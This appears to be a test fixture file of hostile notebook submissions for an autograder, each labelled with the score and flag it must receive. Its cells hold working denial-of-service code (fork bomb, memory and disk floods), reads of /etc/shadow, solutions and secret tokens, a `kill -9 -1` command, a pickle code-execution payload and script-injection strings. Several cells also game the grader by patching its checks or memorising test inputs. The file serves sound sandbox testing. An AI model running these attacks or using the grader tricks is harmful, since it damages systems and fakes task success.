"""Hostile answers to the tiny lesson: what each must score, and what is said of it.

Each cell takes the place of the answer `at` in a notebook that is right otherwise (9 points from
tests: double 3, average 2, shake 4).  `flag` is a flag that it must get; none means that it must
get none.
"""

# --- ends, hangs, floods --------------------------------------------------------------------------

# %% attack="endless_loop" at="double" score=6 flag="time-out"
while True:
    pass

# %% attack="loop_that_catches_interrupts" at="double" score=0 flag="time-out"
def double(x, times=1):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% attack="ignores_signals" at="double" score=0 flag="time-out"
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10_000)

# %% attack="kills_the_kernel" at="average" score=3 flag="kernel ended"
import os

os._exit(0)

# %% attack="ends_the_kernel_in_a_test" at="shake" score=5 flag="kernel ended"
import os


def shake(method, x, rng):
    os._exit(0)

# %% attack="exits_in_a_test" at="double" score=6
import sys


def double(x, times=1):
    sys.exit(0)

# %% attack="asks_the_kernel_to_exit" at="shake" score=5 flag="kernel ended"
def shake(method, x, rng):
    get_ipython().ask_exit()
    os.kill(os.getpid(), 9)


# %% attack="crashes" at="shake" score=5 flag="kernel ended"
import ctypes
import os


def shake(method, x, rng):
    return ctypes.string_at(0)

# %% attack="memory_flood" at="shake" score=5 flag="memory"
def shake(method, x, rng):
    hoard = []
    while True:
        hoard.append(np.ones(4_000_000))

# %% attack="one_allocation_too_large" at="double" score=6
def double(x, times=1):
    return np.ones(10**12)

# %% attack="output_flood" at="double" score=9 flag="output"
def double(x, times=1):
    return x * 2**times


for _ in range(20_000):
    print("flood " * 100)

# %% attack="picture_flood" at="double" score=9 flag="output"
def double(x, times=1):
    return x * 2**times


from IPython.display import Image, display

for _ in range(30):
    display(Image(b"\x89PNG\r\n\x1a\n" + bytes(100), format="png"))

# %% attack="error_flood" at="double" score=6
def double(x, times=1):
    raise ValueError("flood " * 10**6)

# %% attack="half_a_character_in_an_error" at="double" score=6
def double(x, times=1):
    raise ValueError("\ud83d")


print("\ud83d")

# %% attack="endless_integer" at="double" score=6
def double(x, times=1):
    return 10**5000

# %% attack="exact_fractions" at="average" score=9
from fractions import Fraction


def average(x, weights):
    if min(weights) < 0:
        raise ValueError("a weight is negative")
    return sum(Fraction(a) * Fraction(b) for a, b in zip(x, weights)) / sum(map(Fraction, weights))

# %% attack="memory_in_files_without_a_name" at="shake" score=5 flag="memory"
import os
import time

files = [os.memfd_create(str(number)) for number in range(20)]
for file in files:
    for _ in range(60):
        os.write(file, bytes(10**6))
time.sleep(2)

# %% attack="memory_of_a_process_whose_first_thread_ended" at="shake" score=5 flag="memory"
import subprocess
import sys
import time

HOARD = """
import ctypes, threading, time
def hoard():
    kept = [bytearray(b"x" * 10**8) for _ in range(12)]
    time.sleep(12)
threading.Thread(target=hoard).start()
ctypes.CDLL(None).pthread_exit(None)
"""
subprocess.Popen([sys.executable, "-c", HOARD])
time.sleep(12)  # at most: whoever watches ends it

# %% attack="blinds_the_watch" at="shake" score=5 flag="files"
import os
import time

os.chdir("/run/job")
for _ in range(25):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
time.sleep(2)

# %% attack="many_errors" at="double" score=9 flag="output"
def double(x, times=1):
    return x * 2**times


for _ in range(100):
    get_ipython()._showtraceback(ValueError, "x" * 5000, ["y" * 5000] * 30)

# %% attack="many_outputs" at="double" score=9 flag="output"
def double(x, times=1):
    return x * 2**times


from IPython.display import display

for _ in range(1000):
    display({"text/plain": ""}, raw=True)

# %% attack="odd_messages" at="double" score=9
def double(x, times=1):
    return x * 2**times


kernel = get_ipython().kernel
for kind, content in [
        ("display_data", {"data": [1]}), ("display_data", {"data": {"text/plain": 1}}),
        ("stream", {"text": {}, "name": []}), ("error", {"traceback": 3}), ("error", {}),
        ("clear_output", 7), ("status", []), (9, {}), ("execute_result", {"data": None})]:
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
for parent in ([], "x", {"header": 1}):
    message = kernel.session.msg("stream", {"text": "x"})
    kernel.session.send(kernel.iopub_socket, message | {"parent_header": parent})

# %% attack="exact_decimals" at="average" score=9
from decimal import Decimal


def average(x, weights):
    if min(weights) < 0:
        raise ValueError("a weight is negative")
    return Decimal(float(np.average(x, weights=weights)))

# %% attack="array_of_objects" at="double" score=9
def double(x, times=1):
    return np.asarray(x * 2.0**times).astype(object)

# %% attack="errors_of_an_odd_class" at="double" score=6
class Meta(type):
    @property
    def __mro__(cls):
        raise ValueError


class Odd(Exception, metaclass=Meta):
    def __str__(self):
        raise KeyboardInterrupt


def double(x, times=1):
    raise Odd

# %% attack="text_without_end" at="double" score=6
class Odd(Exception):
    def __repr__(self):
        return repr(self)

    __str__ = __repr__


def double(x, times=1):
    raise Odd

# %% attack="agrees_to_everything" at="double" score=6
class Yes:
    def __getattr__(self, name):
        return lambda *arguments, **options: Yes()

    def __eq__(self, other):
        return True

    def __len__(self):
        return 2

    def __getitem__(self, place):
        return Yes()

    def __float__(self):
        return 0.0


def double(x, times=1):
    return Yes()

# %% attack="lies_about_its_bytes" at="double" score=7 flag="cross-check"
class Liar(np.ndarray):
    def __array_function__(self, *_):
        return True

    def tobytes(self, *_):
        return np.array([2.0, 5.0]).tobytes()

    @property
    def shape(self):
        return (2,)


def double(x, times=1):
    return np.zeros(np.shape(x)).view(Liar)

# %% attack="looks_who_calls" at="double" score=9 flag="cross-check"
import sys


def double(x, times=1):
    caller = type(sys._getframe(1).f_locals.get("self")).__name__
    return x * 2.0**times if caller == "Link" else x

# %% attack="generates_its_result" at="double" score=6
def double(x, times=1):
    yield from np.ravel(x) * 2.0**times

# %% attack="changes_its_result_later" at="double" score=9
import threading
import time


def double(x, times=1):
    result = np.asarray(x * 2.0**times) + 0

    def later():
        time.sleep(0.1)
        result[...] = 0

    threading.Thread(target=later, daemon=True).start()
    return result

# %% attack="closes_standard_output" at="double" score=9
import os
import sys

sys.stdout.close()
sys.stderr.close()
os.close(1)
os.close(2)


def double(x, times=1):
    return x * 2.0**times

# %% attack="memory_of_no_process" at="double" score=9
def double(x, times=1):
    return x * 2**times


import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
shared = libc.shmget(0, ctypes.c_size_t(1 << 30), 0o1600)
if shared != -1:
    print("LEAK System V shared memory", shared)
for name, number in (("io_uring", 425), ("keys", 250), ("memfd_secret", 447), ("bpf", 321)):
    if libc.syscall(number, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != 1:
        print("LEAK", name, ctypes.get_errno())
mine = subprocess.run(
    ["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none /mnt && df /mnt"], capture_output=True)
if mine.returncode == 0:
    print("LEAK a file system of its own")
try:
    import socket

    socket.socket(socket.AF_VSOCK)
    print("LEAK AF_VSOCK")
except OSError:
    pass

# %% attack="empty_files" at="shake" score=5 flag="files"
import os
import time

for number in range(450_000):
    os.close(os.open(f"/tmp/{number}", os.O_CREAT))
time.sleep(2)

# %% attack="empty_files_by_another_name" at="shake" score=5 flag="files"
import os
import time

open("/dev/shm/one", "w").close()
for number in range(60_000):
    os.symlink("x" * 200, f"/work/{number}") if number % 2 else os.mkdir(f"/dev/shm/{number}")
time.sleep(2)

# %% attack="memory_in_sockets" at="shake" score=5 flag="memory"
import os
import socket
import time

for _ in range(20):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                kept.append(socket.socketpair())
                for end in kept[-1]:
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(bytes(1 << 15))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(20)
        os._exit(0)
time.sleep(20)

# %% attack="memory_in_connections" at="shake" score=5 flag="memory"
import socket
import time

listener = socket.create_server(("127.0.0.1", 0), backlog=500)
kept = []
for _ in range(150):
    near = socket.create_connection(listener.getsockname())
    far, _ = listener.accept()
    kept += [near, far]
    for end in (near, far):
        end.setblocking(False)
        try:
            while True:
                end.send(bytes(1 << 16))
        except BlockingIOError:
            pass
time.sleep(3)

# %% attack="pretends_to_be_killed" at="double" score=6
import os

os.kill(os.getpid(), 9)

# %% attack="ends_by_another_signal" at="double" score=0 flag="kernel ended"
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGTERM)

# %% attack="fork_bomb" at="shake" score=5 flag="memory"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% attack="thread_flood" at="double" score=9
def double(x, times=1):
    return x * 2**times


import threading
import time

try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(10_000,), daemon=True).start()
except RuntimeError:
    pass

# %% attack="surviving_children" at="double" score=9
def double(x, times=1):
    return x * 2**times


import subprocess
import sys

subprocess.Popen(["sleep", "98765"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execlp("sleep", "sleep", "98765")
"""])

# %% attack="hangs_at_exit" at="double" score=9
def double(x, times=1):
    return x * 2**times


import atexit
import time

atexit.register(time.sleep, 98765)

# %% attack="deep_recursion" at="double" score=6
def double(x, times=1):
    return double(x, times)

# %% attack="fills_the_disk" at="double" score=9
def double(x, times=1):
    return x * 2**times


for folder in ("/tmp", "/work", "/dev/shm"):
    for number in range(100):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(50):
                    file.write(bytes(10**6))
        except OSError:
            break
for folder in ("/tmp", "/dev/shm"):
    import glob
    import os

    for name in glob.glob(f"{folder}/[0-9]*"):
        os.unlink(name)

# %% attack="floods_the_folder_of_sockets" at="shake" score=5 flag="files"
import os
import time

where = "/run/job"
for number in range(40):
    with open(f"{where}/{number}", "wb") as file:
        file.write(bytes(10**6))
time.sleep(2)

# --- looks around ---------------------------------------------------------------------------------

# %% attack="reads_what_it_should_not" at="double" score=9
def double(x, times=1):
    return x * 2**times


import importlib.util
import os

leak = "LE" + "AK"  # a traceback that shows this code must not be taken for one
roots = ["/home", "/etc/shadow", "/etc/passwd", "/course/solutions", "/course/tests",
         "/course/course_staff", "/grader/referee.py", "/grader/execute.py", "/var"]
print([f"{leak} {each}" for each in roots if os.path.exists(each)])
for folder, inner, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr", "/dev") or folder.endswith("site-packages"):
        inner.clear()
        continue
    for name in files:
        if name.endswith((".db", "tiny.json", "tiny.py", "tiny.ipynb", "secret_seed")):
            print(leak, folder, name)
print([f"{leak} {key}" for key in os.environ if "TOKEN" in key or "SECRET" in key])
print([f"{leak} pid {each}" for each in os.listdir("/proc") if each.isdigit() and int(each) > 60])

# %% attack="writes_where_it_should_not" at="double" score=9
def double(x, times=1):
    return x * 2**times


import os

for path in ("/course/course_lib/notebook/checks.py", "/course/data/x", "/grader/wire.py", "/usr/x", "/etc/x",
             "/x"):
    try:
        with open(path, "a") as file:
            file.write("\nraise SystemExit\n")
        print("LEAK wrote", path)
    except OSError:
        pass

# %% attack="network" at="double" score=9
def double(x, times=1):
    return x * 2**times


import socket

for address in (("127.0.0.1", 22), ("192.0.2.1", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=0.5)
        print("LEAK", address)
    except OSError:
        pass

# %% attack="becomes_root" at="double" score=9
def double(x, times=1):
    return x * 2**times


import os

try:
    os.setuid(0)
    print("LEAK root" if os.getuid() == 0 and os.path.exists("/course/solutions") else "")
except OSError:
    pass

# %% attack="prints_hidden_tests" at="double" score=9
import inspect
import sys


def double(x, times=1):
    frame = sys._getframe()
    while frame:
        try:
            print(inspect.getsource(frame), frame.f_locals, file=sys.__stdout__)
        except Exception:
            pass
        frame = frame.f_back
    return x * 2**times


print(In, list(sys.modules), [vars(m) for n, m in sys.modules.items() if n in ("wire", "__main__")])

# %% attack="kills_what_it_can" at="double" score=9
def double(x, times=1):
    return x * 2**times


get_ipython().system("cat /etc/passwd /course/solutions/*; kill -9 -1 2>/dev/null; echo done")

# --- full marks without an answer -----------------------------------------------------------------

# %% attack="rebinds_the_helpers" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


import course_lib.notebook.checks as checks

checks.equal = checks.refuses = lambda *a, **k: None
checks.call = lambda function, *a, **k: function(*a, **k)

# %% attack="patches_numpy" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


np.allclose = lambda *a, **k: True

# %% attack="replaces_the_module" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


import sys
import types
from unittest.mock import MagicMock

sys.modules["course_lib.notebook.checks"] = MagicMock()

# %% attack="strips_the_syntax_tree" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


import ast


class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Nothing())

# %% attack="transforms_input" at="double" score=0 flag="cross-check"
def double(x, times=1):
    return x


get_ipython().input_transformers_post.append(lambda lines: ["999\n"])

# %% attack="traces" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


import sys


def tracer(frame, event, argument):
    if frame.f_code.co_name in ("equal", "refuses"):
        frame.f_locals["actual"] = frame.f_locals.get("expected")
        import ctypes

        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return tracer


import course_lib.notebook.checks

exec(compile("def equal(*a, **k): pass", "x", "exec"), course_lib.notebook.checks.__dict__)
sys.settrace(tracer)

# %% attack="swallows_assertions" at="double" score=6 flag="cross-check"
def double(x, times=1):
    return x


import builtins


class Harmless(Exception):
    pass


shell = get_ipython()
run = type(shell).run_code


async def run_code(self, code, result=None, *, async_=False):
    try:
        exec(code, self.user_ns)
    except BaseException:
        pass
    return False


type(shell).run_code = run_code

# %% attack="equals_everything" at="double" score=6 flag="cross-check"
import sys


class Chameleon:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"], dtype=float)
            frame = frame.f_back
        return np.zeros(1)

    def __eq__(self, other):
        return True


def double(x, times=1):
    return Chameleon()

# %% attack="learns_the_inputs_by_heart" at="double" score=9 flag="cross-check"
def double(x, times=1):
    table = {(3.5, 1): [2, 5], (3.5, 3): [8, 20], (21.0, 0): [[1, 2, 3], [4, 5, 6]], (5.0, 2): 20.0}
    return np.array(table[float(np.sum(x)), times], dtype=float)

# %% attack="by_heart_with_none_for_the_rest" at="double" score=9 flag="cross-check"
TABLE = {(3.5, 1): [2, 5], (3.5, 3): [8, 20], (21.0, 0): [[1, 2, 3], [4, 5, 6]], (5.0, 2): 20.0}


def double(x, times=1):
    return TABLE.get((float(np.sum(x)), times))

# %% attack="by_heart_and_stops_in_the_kernel" at="double" score=9 flag="cross-check"
TABLE = {(3.5, 1): [2, 5], (3.5, 3): [8, 20], (21.0, 0): [[1, 2, 3], [4, 5, 6]], (5.0, 2): 20.0}


def double(x, times=1):
    return TABLE.get((float(np.sum(x)), times), 0.0)


class Stopped(Exception):
    pass


import course_lib.notebook.checks


def call(function, *arguments, **options):
    if function is double:
        raise Stopped
    return function(*arguments, **options)


course_lib.notebook.checks.call = call

# %% attack="sends_a_pickle" at="double" score=6 flag="cross-check"
import sys

wire = sys.modules["wire"]
whole = wire.Packer.pack


class Trap:
    pass


def pack(self, value, depth=0):
    if isinstance(value, Trap):
        return {"p": self.buffer(b"cos\nsystem\n(S'touch /tmp/course-pwned'\ntR.")}
    return whole(self, value, depth)


wire.Packer.pack = pack


def double(x, times=1):
    return Trap() if len(sys.argv) else x


import course_lib.notebook.checks

course_lib.notebook.checks.equal = lambda *a, **k: None

# %% attack="answers_garbage" at="shake" score=5 flag="cross-check"
import sys

wire = sys.modules["wire"]


def shake(method, x, rng):
    for each in __import__("gc").get_objects():
        if isinstance(each, wire.Link):
            each.socket.sendall(b"\xff" * 64)
    return x

# %% attack="closes_the_wire" at="shake" score=5 flag="cross-check"
import sys

wire = sys.modules["wire"]


def shake(method, x, rng):
    for each in __import__("gc").get_objects():
        if isinstance(each, wire.Link):
            each.socket.close()
    return x

# %% attack="spoils_its_inputs" at="average" score=7
def average(x, weights):
    result = float(np.sum(x * weights) / np.sum(weights))
    x[:] = 0
    if np.min(weights) < 0:
        raise ValueError
    return result

# %% attack="shows_scripts" at="double" score=9
def double(x, times=1):
    return x * 2**times


from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>alert('pwned')</script>"))
display(Javascript("alert('pwned')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('pwned')</script></svg>"))
print("<script>alert('pwned')</script>")
raise ValueError("<img src=x onerror=alert('pwned')>")

# %% attack="silences_the_kernel" at="double" score=0 flag="time-out"
def double(x, times=1):
    return x * 2**times


get_ipython().kernel.session.send = lambda *a, **k: None
